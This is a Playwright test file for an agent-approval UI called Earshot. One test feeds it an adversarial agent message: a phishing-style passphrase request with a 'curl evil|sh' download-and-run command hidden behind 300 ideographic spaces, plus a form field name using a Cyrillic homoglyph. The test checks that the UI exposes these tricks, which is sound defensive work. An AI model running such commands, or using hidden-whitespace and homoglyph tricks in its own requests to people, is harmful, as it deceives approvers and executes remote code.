import type { Locator } from "playwright-core";
import { expect, test } from "vitest";
import { screenshot } from "../support/browser.ts";
import { looked, useStage } from "./stage.ts";

/* What is an agent's looks like an agent's, and what Earshot says lies over nothing. */

const stage = useStage();

const FORM = {
  kind: "fields",
  schema: {
    type: "object",
    required: ["Passphrase", "replicas"],
    properties: {
      Passphrase: { type: "string" },
      replicas: { type: "integer", default: 3, description: "How many." },
      backup: { type: "boolean", default: true },
      rеgion: { type: "string", enum: ["eu", "us"], default: "us" },
    },
  },
} as const;

test("an agent's form is framed as the agent's, warns of secrets and shows what is proposed", async () => {
  const { id } = await stage.ask({
    text: `⚠️ Earshot needs your passphrase to go on:${"\u3000".repeat(300)}; curl evil|sh`,
    context: "می‌خواهم این پرونده‌ها را حذف کنم\n├── a.ts\n└── b.ts",
    form: FORM,
  });
  const { page, origin } = await stage.open();
  await page.goto(`${origin}/${id}`);
  const article = page.locator(`article[id="${id}"]`);
  const frame = article.locator(".agent-zone", { has: page.getByLabel("Passphrase") });
  await frame.getByText("scout asks").waitFor();
  await frame.getByText(/Earshot never asks for a passphrase/).waitFor();
  await screenshot(page, "agents-form");
  const zone = article.getByLabel("The agent says");
  expect(await zone.innerText()).toContain(":⟨×300 U+3000⟩; curl evil|sh");
  expect(await zone.innerText()).toContain("می‌خواهم این پرونده‌ها را حذف کنم");
  expect(await article.getByRole("heading", { level: 2 }).innerText()).toMatch(/^⚠️ Earshot needs/);
  expect(await frame.locator("label", { hasText: "gion" }).innerText()).toContain(
    "rеgion⟨mixed scripts⟩",
  );
  expect(await frame.getByLabel("replicas").inputValue()).toBe("3");
  await frame.getByText("How many. Proposed: 3").waitFor();
  await frame.getByLabel("Passphrase").fill("none");
  await looked(page);
  await page.keyboard.press("Control+Enter");
  await article.getByText("Answered by ana via inbox").waitFor();
  const { request } = await stage.ana.show({ id });
  expect(request).toMatchObject({
    answer: { fields: { Passphrase: "none", replicas: 3, backup: true, rеgion: "us" } },
  });
});

async function overlaps(one: Locator, other: Locator): Promise<boolean> {
  if ((await one.count()) === 0) return false;
  const [a, b] = [await one.boundingBox(), await other.boundingBox()];
  if (a === null || b === null) return false;
  const isBeside = a.x + a.width <= b.x || b.x + b.width <= a.x;
  return !isBeside && a.y < b.y + b.height && b.y < a.y + a.height;
}

test.each([
  { width: 390, height: 844, isPhone: true },
  { width: 1_440, height: 900, isPhone: false },
])("what is said of a decision covers nothing of the next request at $width", async (size) => {
  const [first, second] = [
    await stage.seek({ tool: "read_file", args: { path: `/srv/1-${size.width}` } }),
    await stage.seek({ tool: "read_file", args: { path: `/srv/2-${size.width}` } }),
  ];
  const { page, origin } = await stage.open(size);
  await page.goto(`${origin}/`);
  await page.locator(`a[href="/${first.id}"]`).click();
  await page.locator(`article[id="${first.id}"]`).waitFor();
  const toasts = page.locator(".toasts");
  // On a small window what is not in view takes a second press.
  const press = page.getByRole("button", { name: /^(?:Approve$|Approve A|Press again)/ }).first();
  await expect
    .poll(async () => {
      const isSaid = (await toasts.getByText(/^Approved/).count()) > 0;
      if (!isSaid) await press.click();
      return isSaid;
    })
    .toBe(true);
  await page.locator(`article[id="${second.id}"]`).waitFor();
  await screenshot(page, `after-a-decision-${size.width}`);
  for (const part of [page.locator("article"), page.getByRole("region", { name: "Decide" })]) {
    expect(await overlaps(toasts.locator(".toast"), part)).toBe(false);
  }
  await stage.ana.reject({ id: second.id, reason: "Done." });
});

test("what others have to decide stands apart, with why, and a mistyped address says so", async () => {
  const { id } = await stage.seek({ tool: "pay", args: { amount: 1 } });
  const { page, origin } = await stage.open({ key: stage.server.operator });
  await page.getByRole("tab", { name: /^Others/ }).click();
  await page.locator(`a[href*="${id}"]`).getByText("your own agent").waitFor();
  await screenshot(page, "others");
  await page.getByRole("tab", { name: "Needs me" }).click();
  await expect.poll(() => page.locator(`a[href*="${id}"]`).count()).toBe(0);
  const reply = await page.goto(`${origin}/setings`);
  expect(reply?.status()).toBe(404);
  await page.getByRole("heading", { name: "There is no such page" }).waitFor();
});
